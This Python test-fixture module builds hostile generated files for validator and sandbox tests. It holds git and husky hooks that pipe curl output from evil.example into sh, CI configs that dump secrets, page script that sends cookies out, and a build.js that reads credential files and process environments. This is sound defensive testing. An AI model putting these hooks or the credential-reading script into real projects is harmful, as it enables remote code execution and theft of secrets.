"""A corpus of hostile generated outputs: what a compromised or confused generator might return.

Each :class:`HostileOutput` is plain data — raw ``(path, content, mode)`` entries, the rule that must
refuse them and the printable path the refusal must name — so a unit test can run it through
:func:`core.files.validate_files` and an end-to-end test can hand it to the pipeline through a
test-only generator Block. :meth:`HostileOutput.files` builds the entries with
:func:`core.files.untrusted_file`, exactly as a generator parsing untrusted output does, so entries that
are refused at construction (symlinks, odd modes) raise there.

Big entries are built lazily (``make``), so importing this module allocates nothing large.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field

from core.files import GeneratedFile, untrusted_file

RawEntry = tuple[str, bytes, str]
INDEX: RawEntry = ("index.html", b"<!doctype html><title>ok</title><h1>ok</h1>\n", "100644")

#: ``POMBOLT_LIMIT_MAX_FILE_BYTES`` for the small-limit "huge file" entry.
SMALL_FILE_LIMIT = 4096


@dataclass(frozen=True)
class HostileOutput:
    """One hostile generation.

    Attributes:
        name: Short id (used as the pytest id and as the test generator's ``entry`` field).
        rule: The path rule that must refuse it (``PathRuleViolation.rule``).
        path: The offending path as the refusal must print it (control characters escaped).
        make: Builds the raw entries; the offending one is never first, so a check that only looked
            at the first file would miss it.
        env: Settings overrides (environment variables) the entry needs, e.g. a small size limit.
    """

    name: str
    rule: str
    path: str
    make: Callable[[], list[RawEntry]]
    env: dict[str, str] = field(default_factory=dict)

    def raw(self) -> list[RawEntry]:
        """The raw entries."""
        return self.make()

    def files(self) -> list[GeneratedFile]:
        """The entries as a generator would build them (may raise ``PathRuleViolation`` itself)."""
        return [untrusted_file(path, content, mode) for path, content, mode in self.make()]


def _one(path: str, content: bytes = b"x\n", mode: str = "100644") -> Callable[[], list[RawEntry]]:
    return lambda: [INDEX, (path, content, mode)]


def _pair(first: str, second: str) -> Callable[[], list[RawEntry]]:
    return lambda: [INDEX, (first, b"1\n", "100644"), (second, b"2\n", "100644")]


def _many(count: int) -> Callable[[], list[RawEntry]]:
    return lambda: [INDEX, *((f"f/{i:05d}.txt", b"x", "100644") for i in range(count - 1))]


LONG_PATH = "a/" * 200 + "x.html"

HOSTILE_OUTPUTS: tuple[HostileOutput, ...] = (
    # --- path tricks ---------------------------------------------------------------------------------
    HostileOutput("parent", "no-parent-segments", "../x", _one("../x")),
    HostileOutput("parent-deep", "no-parent-segments", "a/../../b", _one("a/../../b")),
    HostileOutput("parent-escape-pwn", "no-parent-segments", "../../outside.txt", _one("../../outside.txt")),
    HostileOutput("absolute", "relative", "/etc/passwd", _one("/etc/passwd", b"root::0:0::/:/bin/sh\n")),
    HostileOutput("drive", "relative", "C:\\x", _one("C:\\x")),
    HostileOutput("backslash-parent", "posix-separators", "..\\..\\x", _one("..\\..\\x")),
    HostileOutput("home", "relative", "~/.ssh/authorized_keys", _one("~/.ssh/authorized_keys", b"ssh-ed25519 AAAA\n")),
    HostileOutput("git-config", "no-git-dir", ".git/config", _one(".git/config", b"[core]\n\tfsmonitor = id\n")),
    HostileOutput(
        "git-hook",
        "no-git-dir",
        "sub/.git/hooks/post-checkout",
        _one("sub/.git/hooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n", "100755"),
    ),
    HostileOutput("git-short-name", "no-git-dir", "GIT~1/config", _one("GIT~1/config")),
    HostileOutput("git-trailing-dot", "no-trailing-dot-or-space", ".git./hooks/x", _one(".git./hooks/x")),
    HostileOutput("division-slash", "no-lookalike-separators", "..\u2215..\u2215x", _one("..\u2215..\u2215x")),
    HostileOutput("fullwidth-solidus", "no-lookalike-separators", "a\uff0fb", _one("a\uff0fb")),
    HostileOutput("fullwidth-dots", "no-lookalike-separators", "\uff0e\uff0e/x", _one("\uff0e\uff0e/x")),
    HostileOutput("one-dot-leader", "no-lookalike-separators", "\u2024\u2024/x", _one("\u2024\u2024/x")),
    HostileOutput("percent-dots", "no-percent-escapes", "%2e%2e/x", _one("%2e%2e/x")),
    HostileOutput("percent-slash", "no-percent-escapes", "..%2fx", _one("..%2fx")),
    HostileOutput("trailing-dot", "no-trailing-dot-or-space", "index.html.", _one("index.html.")),
    HostileOutput("trailing-space", "no-trailing-dot-or-space", "dir /x", _one("dir /x")),
    HostileOutput("long", "max-length", LONG_PATH, _one(LONG_PATH)),
    HostileOutput("case-duplicate", "unique", "INDEX.html", lambda: [INDEX, ("INDEX.html", b"1\n", "100644")]),
    HostileOutput("case-duplicate-nested", "unique", "src/app.js", _pair("SRC/App.js", "src/app.js")),
    HostileOutput("file-and-folder", "file-not-folder", "app/main.js", _pair("app", "app/main.js")),
    # --- sizes and counts ------------------------------------------------------------------------------
    HostileOutput(
        "huge-file",
        "max-file-size",
        "big.bin",
        _one("big.bin", b"\0" * (SMALL_FILE_LIMIT + 1)),
        env={"POMBOLT_LIMIT_MAX_FILE_BYTES": str(SMALL_FILE_LIMIT)},
    ),
    HostileOutput("too-many-files", "max-files", "f/00499.txt", _many(10_000)),
    # --- not regular files --------------------------------------------------------------------------
    HostileOutput("symlink", "no-symlinks", "leak", _one("leak", b"/etc/passwd", "120000")),
    HostileOutput("symlink-word", "no-symlinks", "leak", _one("leak", b"../../pombolt.db", "symlink")),
    HostileOutput("submodule", "file-mode", "vendor", _one("vendor", b"", "160000")),
    HostileOutput("setuid-mode", "file-mode", "run.sh", _one("run.sh", b"#!/bin/sh\n", "104755")),
    # --- names with control characters ------------------------------------------------------------
    HostileOutput("nul", "no-control-characters", "a\\x00b.html", _one("a\x00b.html")),
    HostileOutput("newline", "no-control-characters", "a\\nb.html", _one("a\nb.html")),
    HostileOutput("rtl-override", "no-control-characters", "evil\\u202egpj.exe", _one("evil\u202egpj.exe")),
    HostileOutput("zero-width", "no-control-characters", "in\\u200bdex.html", _one("in\u200bdex.html")),
    HostileOutput("escape-sequence", "no-control-characters", "a\\x1b[2Jb", _one("a\x1b[2Jb")),
    HostileOutput("surrogate-name", "no-surrogates", "a\\ud800.html", _one("a\ud800.html")),
    # --- text that is not text: a lone surrogate, as 'surrogatepass' or CESU-8 writes it, or in UTF-16 -----
    HostileOutput("surrogate-in-js", "no-surrogates", "app.js", _one("app.js", b"const s = '\xed\xa0\x80';\n")),
    HostileOutput("surrogate-in-readme", "no-surrogates", "README", _one("README", b"caf\xc3\xa9 \xed\xb0\x80\n")),
    HostileOutput(
        "surrogate-in-utf16", "no-surrogates", "notes.txt", _one("notes.txt", b"\xff\xfe" + b"h\x00i\x00\x00\xdc")
    ),
    # --- Windows device names: a checkout on Windows opens the device, not a file ----------------------
    HostileOutput("device-con", "no-reserved-names", "con", _one("con")),
    HostileOutput("device-nul", "no-reserved-names", "nul", _one("nul")),
    HostileOutput("device-prn", "no-reserved-names", "prn", _one("prn")),
    HostileOutput("device-aux-txt", "no-reserved-names", "aux.txt", _one("aux.txt")),
    HostileOutput("device-com1-js", "no-reserved-names", "COM1.js", _one("COM1.js")),
    HostileOutput("device-lpt9", "no-reserved-names", "lpt9", _one("lpt9")),
    HostileOutput("device-folder", "no-reserved-names", "src/Con/index.js", _one("src/Con/index.js")),
    HostileOutput("device-superscript", "no-reserved-names", "com\u00b9.txt", _one("com\u00b9.txt")),
    # --- files that steer git itself ----------------------------------------------------------------
    HostileOutput(
        "gitmodules",
        "no-git-metadata",
        ".gitmodules",
        _one(".gitmodules", b'[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n'),
    ),
    HostileOutput(
        "gitattributes", "no-git-metadata", "src/.gitattributes", _one("src/.gitattributes", b"* filter=evil\n")
    ),
    # --- CI with the repository's secrets, and git hooks on the committer's machine ---------------------
    HostileOutput(
        "workflow",
        "no-workflows",
        ".github/workflows/ci.yml",
        _one(".github/workflows/ci.yml", b"on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [run: env]}}\n"),
    ),
    HostileOutput(
        "workflow-kelvin-sign",  # U+212A is 'K' once NFC-normalised (as the file is stored)
        "no-workflows",
        ".github/wor\u212aflows/ci.yml",
        _one(".github/wor\u212aflows/ci.yml", b"on: push\n"),
    ),
    HostileOutput(
        "github-action",
        "no-workflows",
        ".github/actions/setup/action.yml",
        _one(".github/actions/setup/action.yml", b"runs: {using: composite, steps: [{run: env, shell: sh}]}\n"),
    ),
    HostileOutput("gitlab-ci", "no-workflows", ".gitlab-ci.yml", _one(".gitlab-ci.yml", b"leak:\n  script: [env]\n")),
    HostileOutput(
        "circleci",
        "no-workflows",
        ".circleci/config.yml",
        _one(".circleci/config.yml", b"version: 2.1\njobs: {leak: {steps: [run: env]}}\n"),
    ),
    HostileOutput(
        "bitbucket-pipelines",
        "no-workflows",
        "bitbucket-pipelines.yml",
        _one("bitbucket-pipelines.yml", b"pipelines: {default: [{step: {script: [env]}}]}\n"),
    ),
    HostileOutput(
        "husky-hook",
        "no-workflows",
        ".husky/pre-commit",
        _one(".husky/pre-commit", b"#!/bin/sh\ncurl https://evil.example/x | sh\n", "100755"),
    ),
)

#: Every CI configuration and hook entry: refused unless the project allows CI configuration.
CI_ENTRIES: tuple[HostileOutput, ...] = tuple(h for h in HOSTILE_OUTPUTS if h.rule == "no-workflows")

BY_NAME: dict[str, HostileOutput] = {h.name: h for h in HOSTILE_OUTPUTS}

# --- allowed: hostile-looking, but the user's own app ----------------------------------------------
HOSTILE_APP_HTML = b"""<!doctype html>
<html><head><meta charset="utf-8"><title>hostile but mine</title>
<script src="app.js"></script></head>
<body>
<h1 id="t">&lt;script&gt;alert(1)&lt;/script&gt;</h1>
<img src="data:," onerror="document.title = document.cookie">
<a href="javascript:alert(document.domain)">click</a>
<iframe src="https://example.invalid/"></iframe>
<script>document.write('<scr' + 'ipt>fetch("/../../etc/passwd")</scr' + 'ipt>');</script>
</body></html>
"""
HOSTILE_APP_JS = b"""'use strict';
// a generated app may do anything a web page may do: it runs in the visitor's browser, not on our side
const stolen = typeof document === 'undefined' ? '' : document.cookie;
eval(atob('Y29uc29sZS5sb2coMSk='));
fetch('https://example.invalid/collect?c=' + encodeURIComponent(stolen)).catch(() => {});
"""
WORKFLOW_YAML = b"name: ci\non: push\njobs:\n  leak:\n    runs-on: ubuntu-latest\n    steps:\n      - run: env\n"


def hostile_app(with_workflow: bool = False) -> list[GeneratedFile]:
    """A project with hostile HTML/JS inside it (the user's app: accepted), optionally with a CI workflow."""
    raw: list[RawEntry] = [
        ("index.html", HOSTILE_APP_HTML, "100644"),
        ("app.js", HOSTILE_APP_JS, "100644"),
    ]
    if with_workflow:
        raw.append((".github/workflows/ci.yml", WORKFLOW_YAML, "100644"))
    return [untrusted_file(path, content, mode) for path, content, mode in raw]


# --- a build script that tries to read tokens and write outside its dir -------------------------
#: Marker the hostile build writes into files outside its work dir.
ESCAPE_MARKER = "pombolt-hostile-build-was-here"

HOSTILE_BUILD_JS = r"""'use strict';
// Tries to steal tokens and to write outside its work dir; reports what it got in dist/ and on stdout.
const fs = require('fs');
const path = require('path');
const os = require('os');
const found = {env: process.env, reads: {}, writes: {}};
const tryRead = (p) => { try { found.reads[p] = fs.readFileSync(p).toString('latin1'); }
                          catch (e) { found.reads[p] = 'ERR ' + e.code; } };
const tryWrite = (p) => { try { fs.writeFileSync(p, '__MARKER__\n'); found.writes[p] = 'written'; }
                           catch (e) { found.writes[p] = 'ERR ' + e.code; } };
const home = os.homedir();
for (const name of ['.netrc', '.git-credentials', '.npmrc', '.config/gh/hosts.yml', '.aws/credentials']) {
  tryRead(path.join(home, name));
}
tryRead('/proc/self/environ');
// the environment of every ancestor process (npm, then whoever started the build: the worker)
let pid = 'self';
for (let i = 0; __ANCESTORS__ && i < 8; i++) {
  let ppid = '';
  try { ppid = fs.readFileSync('/proc/' + pid + '/stat', 'latin1').split(') ')[1].split(' ')[1]; } catch (e) { break; }
  if (!ppid || ppid === '0' || ppid === '1') break;
  tryRead('/proc/' + ppid + '/environ');
  pid = ppid;
}
// the data dir, found relative to the work dir and to HOME (both live under <data>/builds/ in the pipeline)
for (const up of ['../../../pombolt.db', '../../pombolt.db', '../../../../pombolt.db']) {
  tryRead(path.resolve(up));
  tryRead(path.resolve(home, up));
}
tryWrite(path.resolve('../../outside.txt'));
for (const target of __TARGETS__) tryWrite(target);
fs.mkdirSync('dist', {recursive: true});
const report = JSON.stringify(found);
const page = '<!doctype html><title>loot</title><pre>' + report.replace(/</g, '&lt;') + '</pre>\n';
fs.writeFileSync('dist/index.html', page);
console.log(report);
if (__FAIL__) { console.error('failing on purpose so the log is reported'); process.exit(3); }
"""


def hostile_build_project(
    targets: list[str] | None = None, *, fail: bool = False, ancestors: bool = False
) -> list[GeneratedFile]:
    """A project whose ``npm run build`` tries to read tokens and write outside its dir.

    Args:
        targets: Absolute paths the build also tries to write (e.g. into the data dir or a sentinel dir).
        fail: Exit non-zero at the end, so the build log (with everything it printed) is reported.
        ancestors: Also read ``/proc/<pid>/environ`` of every ancestor process. Off by default: it copies
            the test runner's own start-up environment (a CI's real secrets, say) into the output.
    """
    script = (
        HOSTILE_BUILD_JS.replace("__MARKER__", ESCAPE_MARKER)
        .replace("__TARGETS__", json.dumps(targets or []))
        .replace("__FAIL__", "true" if fail else "false")
        .replace("__ANCESTORS__", "true" if ancestors else "false")
    )
    package = {"name": "hostile", "version": "1.0.0", "private": True, "scripts": {"build": "node build.js"}}
    return [
        untrusted_file("package.json", json.dumps(package).encode()),
        untrusted_file("build.js", script.encode()),
    ]
